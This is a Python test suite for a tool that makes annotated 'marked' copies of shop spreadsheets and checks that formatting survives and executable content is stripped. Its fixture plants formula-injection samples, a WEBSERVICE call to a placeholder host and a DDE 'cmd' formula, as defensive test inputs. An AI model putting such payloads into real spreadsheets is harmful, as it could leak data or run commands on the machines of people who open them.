"""Marked copies: every problem cell is filled and commented, nothing else is different.

The copies are opened with openpyxl, and by LibreOffice as a second program.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from collections.abc import Sequence
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from bad_workbooks import INJECTIONS, LIGHT
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.comments import Comment
from openpyxl.formatting.rule import ColorScaleRule, FormulaRule
from openpyxl.styles import Font, PatternFill
from openpyxl.worksheet.datavalidation import DataValidation

from calfleet.adapters.workbook import marked_cells, marked_copy, marked_form, marked_list
from calfleet.adapters.workbook.grid_cells import Book, Broken, Grid
from calfleet.adapters.workbook.grids import read_book
from calfleet.adapters.workbook.marked_copy import mark
from calfleet.adapters.workbook.marked_list import ABOUT, SOFT, TO_MEND
from calfleet.adapters.workbook.marked_places import spots
from calfleet.adapters.workbook.sources import letter
from calfleet.errors import Problem, RecordRefused

SOFFICE = shutil.which("soffice")
NEEDS_OFFICE = pytest.mark.skipif(SOFFICE is None, reason="NEEDS LibreOffice")


def read(path: Path) -> Book:
    book = read_book(path, [])
    assert book is not None
    return book


def office(source: Path, into: str, folder: Path) -> Path:
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation={(folder / 'lo').as_uri()}",
         "--convert-to", into, "--outdir", str(folder), str(source)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    return folder / f"{source.stem}.{into.partition(':')[0]}"


def is_marked(cell: Any) -> bool:
    return bool(cell.fill.fill_type == "solid" and cell.fill.fgColor.rgb[-6:] == SOFT)


def links(page: Any) -> list[tuple[str, str]]:
    """(what stands there, where it leads) of each link of the list."""
    return [
        (row[2].value, row[2].hyperlink.location)
        for row in page.iter_rows(min_row=5)
        if row[2].hyperlink is not None
    ]


# --- places -------------------------------------------------------------------------------

NAMES = st.text("ab!,'1: AZ-", min_size=1, max_size=8) | st.sampled_from(
    ["Gauges!F12", "a, b!C3", "line 3", "line 3, column B", "x!1:1", "old!A1", "a", "a!b", "a, b"]
)


@settings(max_examples=200)
@given(
    files=st.lists(NAMES, min_size=1, max_size=3, unique=True),
    sheets=st.lists(NAMES, min_size=1, max_size=4, unique=True),
    row=st.integers(0, 1_048_575),
    column=st.none() | st.integers(0, 399),
    kind=st.sampled_from(["xlsx", "csv", "ods"]),
    data=st.data(),
)
def test_a_place_is_found_again_whatever_the_names_hold(
    files: list[str],
    sheets: list[str],
    row: int,
    column: int | None,
    kind: str,
    data: st.DataObject,
) -> None:
    most = 1 if kind == "csv" else 9
    books = [
        Book(Path(f"{name}.{kind}"), kind, [Grid(each) for each in sheets[:most]]) for name in files
    ]
    index = data.draw(st.integers(0, len(books) - 1))
    sheet = data.draw(st.integers(0, len(books[index].grids) - 1))
    problem = Problem(books[index].place(books[index].grids[sheet], row, column), "x")
    found, others = spots(books, [problem, problem])
    assert not others
    assert [len(each) for each in found] == [int(n == index) for n in range(len(books))]
    spot = found[index][0]
    assert (spot.sheet, spot.row, spot.column) == (sheet, row, column)
    assert spot.at == (row, column or 0)


def test_a_row_is_marked_at_its_first_filled_cell_in_sight() -> None:
    grid = Grid("S", rows={4: [None, "x", None, Decimal(3)]}, hidden_columns={1})
    book = Book(Path("f.xlsx"), "xlsx", [grid])
    found, _ = spots(
        [book],
        [Problem("f.xlsx, S!5:5", "r"), Problem("f.xlsx, S!9:9", "e"), Problem("f.xlsx, S", "s"),
         Problem("f.xlsx", "f"), Problem("f.xlsx, S!B:B", "c"), Problem("f.xlsx, T!A1", "t")],
    )  # fmt: skip
    assert {spot.problem.message: (spot.sheet, spot.at) for spot in found[0]} == {
        "r": (0, (4, 3)), "e": (0, (8, 0)), "s": (0, None), "f": (None, None),
        "c": (0, (4, 1)), "t": (None, None),
    }  # fmt: skip


def test_a_heading_in_the_place_of_letters_means_the_row() -> None:
    book = Book(Path("f.csv"), "csv", [Grid("f", rows={11: ["a"]})])
    found, _ = spots([book], [Problem("f.csv, line 12, column Set point", "x")])
    assert (found[0][0].row, found[0][0].column, found[0][0].at) == (11, None, (11, 0))


# --- every problem cell, and nothing else ------------------------------------------------------

VALUES = st.one_of(
    st.none(),
    st.integers(-(10**9), 10**9),
    st.floats(-1e6, 1e6, allow_nan=False),
    st.booleans(),
    st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")), max_size=12),
    st.sampled_from([*INJECTIONS, "=1+1", "'x", " lead", "a\nb"]),
    st.dates(date(1901, 1, 1), date(2100, 1, 1)),
)
GRIDS = st.lists(st.lists(VALUES, max_size=6), min_size=1, max_size=8)
AT = st.tuples(st.integers(0, 9), st.integers(0, 7))


def fill_in(page: Any, rows: Sequence[Sequence[Any]]) -> None:
    for r, row in enumerate(rows, 1):
        for c, value in enumerate(row, 1):
            cell = page.cell(r, c, value)
            if isinstance(value, str):
                cell.data_type = "s"  # the shop's text, whatever it begins with
            if (r + c) % 3 == 0:
                cell.font = Font(bold=True, color="FF0000")
                cell.number_format = "0.000" if isinstance(value, float) else cell.number_format


def same(before: Any, after: Any) -> None:
    assert after.value == before.value, after.coordinate
    assert after.data_type == before.data_type or before.value is None
    assert after.number_format == before.number_format


@settings(max_examples=60)
@given(
    grids=st.lists(GRIDS, min_size=1, max_size=3),
    wrong=st.lists(st.tuples(st.integers(0, 2), AT), min_size=1, max_size=12),
)
def test_every_problem_cell_is_marked_and_all_others_are_unchanged(
    grids: list[list[list[Any]]],
    wrong: list[tuple[int, tuple[int, int]]],
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    folder = tmp_path_factory.mktemp("marked")
    source = openpyxl.Workbook()
    source.remove(source.active)
    for n, rows in enumerate(grids):
        fill_in(source.create_sheet(f"Sheet {n}, a!b"), rows)
    source.save(folder / "shop.xlsx")
    book = read(folder / "shop.xlsx")
    problems = [
        Problem(book.place(book.grids[s], *at), f"Problem {n}.", f"Step {n}.")
        for n, (s, at) in enumerate(wrong)
        if s < len(book.grids)
    ]
    digest = (folder / "shop.xlsx").read_bytes()
    written = mark([book], problems, folder)
    assert (folder / "shop.xlsx").read_bytes() == digest
    if not problems:
        assert written == []
        return
    assert written == [folder / "shop-marked.xlsx"]
    before = openpyxl.load_workbook(folder / "shop.xlsx")
    after = openpyxl.load_workbook(written[0])
    assert after.sheetnames == [TO_MEND, *before.sheetnames, ABOUT]
    for s, page in enumerate(before.worksheets):
        marked = {at for n, at in wrong if n == s}
        other = after[page.title]
        for r in range(1, 14):
            for c in range(1, 10):
                was, now = page.cell(r, c), other.cell(r, c)
                same(was, now)
                if (r - 1, c - 1) in marked:
                    assert is_marked(now)
                    place = book.place(book.grids[s], r - 1, c - 1)
                    for each in (each for each in problems if each.where == place):
                        assert each.message in now.comment.text
                        assert each.hint in now.comment.text
                    assert now.font.b == was.font.b
                else:
                    assert not is_marked(now)
                    assert now.comment is None
                    assert repr(now.font) == repr(was.font)
                    assert repr(now.fill) == repr(was.fill)
                    assert repr(now.alignment) == repr(was.alignment)
    listed = after[TO_MEND]
    assert sorted(row[5].value for row in listed.iter_rows(min_row=5)) == sorted(
        each.message for each in problems
    )
    for place, location in links(listed):
        title, _, cell = location.rpartition("!")
        assert place == cell
        assert is_marked(after[title[1:-1]][cell])
    for page in after.worksheets:
        assert not [cell for row in page.iter_rows() for cell in row if cell.data_type == "f"]


@settings(max_examples=40)
@given(
    rows=st.lists(
        st.lists(
            st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "S")), max_size=10)
            | st.sampled_from(INJECTIONS),
            min_size=2,
            max_size=5,
        ),
        min_size=2,
        max_size=7,
    ),
    wrong=AT,
)
def test_a_csv_is_copied_value_by_value(
    rows: list[list[str]], wrong: tuple[int, int], tmp_path_factory: pytest.TempPathFactory
) -> None:
    import csv

    folder = tmp_path_factory.mktemp("marked")
    with (folder / "shop.csv").open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream, quoting=csv.QUOTE_ALL).writerows(rows)
    book = read(folder / "shop.csv")
    written = mark([book], [Problem(book.place(book.grids[0], *wrong), "Bad.", "Mend.")], folder)
    page = openpyxl.load_workbook(written[0]).worksheets[1]
    grid = book.grids[0]
    for r in range(12):
        for c in range(10):
            value, cell = grid.cell(r, c), page.cell(r + 1, c + 1)
            if isinstance(value, str):
                shown = re.sub("\r\n?", "\n", re.sub("[\ufffe\uffff]", "\ufffd", value))
                assert (cell.value, cell.data_type) == (shown, "s")
            elif value is None:
                assert cell.value is None
            assert is_marked(cell) == ((r, c) == wrong)
            assert (cell.comment is not None) == ((r, c) == wrong)


# --- the form of the shop --------------------------------------------------------------------


def shop(path: Path) -> None:
    """A workbook as shops have them."""
    source = openpyxl.Workbook()
    page = source.active
    page.title = "Switches!2026"
    page["A1"] = "Switches"
    page.merge_cells("A1:D1")
    page.append(["Tag", "Set point", "Due", "Link"])
    for n in range(3, 9):
        page.append([f"PSL-{n}", n / 4, date(2026, 3, n), "page"])
        page.cell(n, 2).number_format = "0.00"
        page.cell(n, 3).number_format = "dd.mm.yyyy"
    page["E3"] = '=WEBSERVICE("http://shop.example/"&A3)'
    page["E4"] = "=cmd|' /c x'!A0"
    page["D3"].hyperlink = "http://shop.example/"
    page["D4"].hyperlink = "#'Other'!A1"
    page["A5"].comment = Comment("Ask the night shift.", "planner")
    page["C9"] = 99_999_999  # no date there is, in the format of one
    page["C9"].number_format = "dd.mm.yyyy"
    page.column_dimensions["A"].width = 31
    page.column_dimensions["B"].hidden = True
    page.row_dimensions[6].hidden = True
    page.row_dimensions[7].height = 40
    page.freeze_panes = "B3"
    red = PatternFill(bgColor="FF0000")
    page.conditional_formatting.add("A3:C8", FormulaRule(formula=["$C3>TODAY()"], fill=red))
    page.conditional_formatting.add("A3:A8", FormulaRule(formula=["[1]X!A1=1"], fill=red))
    page.conditional_formatting.add(
        "B3:B8",
        ColorScaleRule(start_type="min", start_color="AA0000", end_type="max", end_color="00AA00"),
    )
    choice = DataValidation(type="list", formula1='"low,high"')
    page.add_data_validation(choice)
    choice.add("D3:D8")
    other = source.create_sheet("Other")
    other.sheet_state = "hidden"
    other["A1"] = "untouched"
    source.create_sheet(TO_MEND)["A1"] = "their own sheet of this name"
    source.save(path)


@pytest.mark.filterwarnings("ignore:Cell C9 is marked as a date")
def test_the_form_stays_and_what_could_run_goes(tmp_path: Path) -> None:
    shop(tmp_path / "shop.xlsx")
    book = read(tmp_path / "shop.xlsx")
    where = "shop.xlsx, Switches!2026"
    written = mark(
        [book],
        [Problem(f"{where}!C1", "Merged."), Problem(f"{where}!A5", "Tag."),
         Problem(f"{where}!C4", "Due."), Problem(f"{where}!6:6", "Row."),
         Problem("shop.xlsx", "File.", "Do it.")],
        tmp_path / "out",
    )  # fmt: skip
    copy = openpyxl.load_workbook(written[0])
    assert copy.sheetnames == [f"{TO_MEND} 2", "Switches!2026", "Other", TO_MEND, ABOUT]
    assert copy.active.title == f"{TO_MEND} 2"
    page = copy["Switches!2026"]
    assert [str(area) for area in page.merged_cells.ranges] == ["A1:D1"]
    assert page.column_dimensions["A"].width == 31
    assert page.column_dimensions["B"].hidden
    assert page.row_dimensions[6].hidden
    assert page.row_dimensions[7].height == 40
    assert page.freeze_panes == "B3"
    assert copy["Other"].sheet_state == "hidden"
    assert (page["B4"].number_format, page["C5"].number_format) == ("0.00", "dd.mm.yyyy")
    assert page["C5"].value.date() == date(2026, 3, 5)
    assert page["A1"].comment.text == "C1: Merged."
    assert page["A5"].comment.text == "Tag.\n\nNoted here before:\nAsk the night shift."
    assert page["A6"].comment.text == "The whole row: Row."
    # what could run, fetch or lead elsewhere
    with zipfile.ZipFile(written[0]) as package:
        everything = b"".join(package.read(name) for name in package.namelist())
        assert b'<c r="C9"' in everything
        assert b"99999999" in everything
        assert b"<f>" not in everything
    for word in (b"WEBSERVICE", b"shop.example", b"cmd|", b"[1]", b"dataValidation"):
        assert word not in everything, word
    assert page["D4"].hyperlink.target == "#'Other'!A1"
    lead = copy.worksheets[0]
    assert (
        "Not in this copy: drop-down lists, links to other files, some conditional formats."
        in lead["A3"].value
    )
    assert lead.freeze_panes == "A5"
    assert lead.auto_filter.ref == "A4:H9"
    assert "the file as a whole: 1; Switches!2026: 4" in lead["A2"].value
    assert links(lead) == [
        ("whole file", "'Switches!2026'!A1"), ("C1", "'Switches!2026'!A1"),
        ("C4", "'Switches!2026'!C4"), ("A5", "'Switches!2026'!A5"),
        ("row 6, hidden", "'Switches!2026'!A6"),
    ]  # fmt: skip
    # the marked cells are outside of the conditional formats, all others inside as before
    areas: dict[str, set[str]] = {}
    for each in page.conditional_formatting:
        cells = {
            f"{letter(column - 1)}{row}"
            for area in each.sqref.ranges
            for row in range(area.min_row, area.max_row + 1)
            for column in range(area.min_col, area.max_col + 1)
        }
        for rule in each.rules:
            areas.setdefault(rule.type, set()).update(cells)
            if rule.type == "expression":  # it still reads the row that it stands in
                first = min(area.min_row for area in each.sqref.ranges)
                assert rule.formula == [f"$C{first}>TODAY()"]
    inside = {f"{c}{r}" for c in "ABC" for r in range(3, 9)}
    assert areas["expression"] == inside - {"A5", "C4", "A6"}
    assert areas["colorScale"] == {f"B{r}" for r in range(3, 9)}


@given(
    marks=st.sets(st.tuples(st.integers(1, 9), st.integers(1, 9))),
    corner=st.tuples(st.integers(1, 6), st.integers(1, 6)),
    size=st.tuples(st.integers(0, 4), st.integers(0, 4)),
)
def test_pieces_are_the_area_without_the_marks(
    marks: set[tuple[int, int]], corner: tuple[int, int], size: tuple[int, int]
) -> None:
    (left, top), (wide, high) = corner, size
    area = (left, top, left + wide, top + high)
    by_row: dict[int, set[int]] = {}
    for row, column in marks:
        by_row.setdefault(row, set()).add(column)
    cells = [
        (r, c)
        for x0, y0, x1, y1 in marked_form._pieces(area, by_row)
        for r in range(y0, y1 + 1)
        for c in range(x0, x1 + 1)
    ]
    assert len(cells) == len(set(cells))
    whole = {(r, c) for r in range(top, top + high + 1) for c in range(left, left + wide + 1)}
    assert set(cells) == whole - marks


def test_an_xlsx_too_large_for_objects_is_copied_as_values(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shop(tmp_path / "shop.xlsx")
    book = read(tmp_path / "shop.xlsx")
    monkeypatch.setattr(marked_form, "MOST_PLACES", 10)
    problem = Problem("shop.xlsx, Switches!2026!C1", "Merged.", "=Look")
    written = mark([book], [problem], tmp_path)
    copy = openpyxl.load_workbook(written[0])
    page = copy["Switches!2026"]
    assert is_marked(page["A1"])
    assert page["A1"].comment.text == "C1: Merged.\n→ =Look"
    assert page["B4"].value == 1
    assert page["C5"].value.date() == date(2026, 3, 5)
    assert [str(area) for area in page.merged_cells.ranges] == ["A1:D1"]
    assert page.column_dimensions["B"].hidden
    assert page.row_dimensions[6].hidden
    assert copy["Other"].sheet_state == "hidden"
    assert "Only the values were copied" in copy.worksheets[0]["A3"].value
    assert "its sheets span more than 10 cells" in copy.worksheets[0]["A3"].value


def test_comments_and_lines_are_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "shop.csv").write_text("a,b\n" + "1,2\n" * 40)
    book = read(tmp_path / "shop.csv")
    monkeypatch.setattr(marked_cells, "MOST_COMMENTED", 5)
    monkeypatch.setattr(marked_cells, "MOST_LISTED", 30)
    monkeypatch.setattr(marked_list, "MOST_LISTED", 30)
    problems = [Problem(f"shop.csv, line {n}, column B", "x" * 40_000) for n in range(1, 41)]
    copy = openpyxl.load_workbook(mark([book], problems, tmp_path)[0])
    page = copy["shop"]
    assert [is_marked(page.cell(r, 2)) for r in range(1, 42)] == [r <= 30 for r in range(1, 42)]
    comments = [page.cell(r, 2).comment for r in range(1, 42)]
    assert [each is not None for each in comments] == [r <= 5 for r in range(1, 42)]
    assert len(comments[0].text) < 3200
    lead = copy.worksheets[0]
    assert lead.max_row == 4 + 30
    assert "40 problems, 30 cells marked. The first 30 are listed and marked." in lead["A2"].value


# --- files ------------------------------------------------------------------------------------


def test_nothing_is_overwritten(tmp_path: Path) -> None:
    (tmp_path / "shop.csv").write_text("a,b\n1,2\n")
    (tmp_path / "shop-marked.xlsx").write_text("theirs")
    (tmp_path / "shop-marked-2.xlsx").symlink_to(tmp_path / "elsewhere.xlsx")
    book = read(tmp_path / "shop.csv")
    written = mark([book], [Problem("shop.csv", "x")], tmp_path)
    assert written == [tmp_path / "shop-marked-3.xlsx"]
    assert (tmp_path / "shop-marked.xlsx").read_text() == "theirs"
    assert not (tmp_path / "elsewhere.xlsx").exists()


def test_no_free_name_takes_the_others_away(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("a.csv", "b.csv"):
        (tmp_path / name).write_text("a,b\n1,2\n")
    monkeypatch.setattr(marked_copy, "_NAMES_TRIED", 2)
    out = tmp_path / "out"
    out.mkdir()
    (out / "b-marked.xlsx").write_text("theirs")
    books = [read(tmp_path / "a.csv"), read(tmp_path / "b.csv")]
    with pytest.raises(RecordRefused, match="holds 1 copies named b-marked"):
        mark(books, [Problem("a.csv", "x"), Problem("b.csv", "x")], out)
    assert [path.name for path in out.iterdir()] == ["b-marked.xlsx"]
    with pytest.raises(RecordRefused, match="is a file"):
        mark(books, [Problem("a.csv", "x")], tmp_path / "a.csv")


def test_a_file_that_was_not_read_gets_a_line_and_no_copy(tmp_path: Path) -> None:
    (tmp_path / "shop.csv").write_text("a,b\n1,2\n")
    said: list[Problem] = []
    book = read(tmp_path / "shop.csv")
    assert (
        mark([book], [Problem("gone.xlsx", "There is no such file.")], tmp_path / "n", said=said)
        == []
    )
    assert [each.where for each in said] == ["gone.xlsx"]
    assert "in none of the files" in said[0].message
    assert not (tmp_path / "n").exists()


@given(st.text(max_size=300))
def test_names_of_copies_are_names_everywhere(text: str) -> None:
    name = marked_copy.safe_stem(Path("folder") / "x").removesuffix("-marked")
    assert name == "x"
    try:
        path = Path("folder") / f"{text}.xlsx"
    except ValueError:
        return
    made = marked_copy.safe_stem(path)
    assert made.endswith("-marked")
    assert not re.search(r'[\x00-\x1f<>:"/\\|?*]', made)
    assert not made.startswith((".", " ", "-"))
    assert len(made.encode()) < 200
    # device names: common knowledge of one family of systems, no source
    assert not re.fullmatch(
        r"(?i)(con|prn|aux|nul|com\d|lpt\d)(\..*)?", made.removesuffix("-marked")
    )


@pytest.mark.filterwarnings("ignore::UserWarning:openpyxl")
def test_every_bad_file_that_can_be_read_can_be_marked(tmp_path: Path) -> None:
    """The bad files of the readers' tests, marked at A1 of each sheet."""
    copies = 0
    for n, bad in enumerate(bad for family in LIGHT for bad in family()):
        if n % 4 and not bad.name.startswith("sheets-"):
            continue  # every fourth, and all that do something to the sheets themselves
        folder = tmp_path / str(n)
        folder.mkdir()
        path = folder / bad.name
        path.write_bytes(bad.content)
        problems: list[Problem] = []
        book = read_book(path, problems)
        if book is None:
            assert mark([], problems, folder / "out") == []
            continue
        problems += [Problem(book.place(grid, 0, 0), "Marked.") for grid in book.grids]
        written = mark([book], problems, folder / "out")
        copy = openpyxl.load_workbook(written[0])
        copies += 1
        told = [
            cell.comment.text
            for page in copy.worksheets[1:-1]
            for cell in page._cells.values()  # some reach down to the last row there is
            if cell.comment is not None
        ]
        assert any("Marked." in text for text in told), bad.name
        with zipfile.ZipFile(written[0]) as package:
            assert not any(b"<f>" in package.read(name) for name in package.namelist()), bad.name
    assert copies > 150


# --- another program opens them ------------------------------------------------------------


@NEEDS_OFFICE
@pytest.mark.parametrize("kind", ["xlsx", "ods", "xls", "csv"])
def test_libreoffice_sees_the_marks_and_the_same_values(kind: str, tmp_path: Path) -> None:
    """Each source, its marked copy, and what LibreOffice says is in the copy."""
    shop(tmp_path / "shop.xlsx")
    source = tmp_path / "shop.xlsx"
    if kind != "xlsx":
        source = office(source, kind, tmp_path)
    book = read(source)
    grid = book.grids[0]
    wrong = [(1, 0), (4, 0), (3, 2), (9, 1)]
    problems = [Problem(book.place(grid, *at), f"Wrong at {at}.", "Mend it.") for at in wrong]
    written = mark([book], problems, tmp_path / "out")
    shown = office(written[0], "fods", tmp_path).read_text(encoding="utf-8")
    notes = re.findall(r"<office:annotation.*?</office:annotation>", shown, re.DOTALL)
    for at in wrong:
        assert sum(f"Wrong at {at}." in re.sub("<[^>]*>", "", note) for note in notes) == 1
    assert "table:formula" not in shown
    # read again by our reader, from what LibreOffice wrote: values and addresses are the same
    again = read(office(written[0], "ods", tmp_path))
    assert again.grids[0].name == (TO_MEND if kind == "csv" else f"{TO_MEND} 2")
    copied = again.grids[1]
    if kind != "csv":
        assert copied.name == grid.name
    for row in range(12):
        for column in range(5):
            was, now = grid.cell(row, column), copied.cell(row, column)
            if isinstance(was, Broken) or str(was).startswith("Err:"):
                continue  # its stored result is an error, or there is none
            if kind == "csv" and was is not None:
                was = str(was)
            if (row, column) == (8, 2):
                continue  # 99,999,999 in the format of a date: no program shows it
            assert now == was, (row, column)
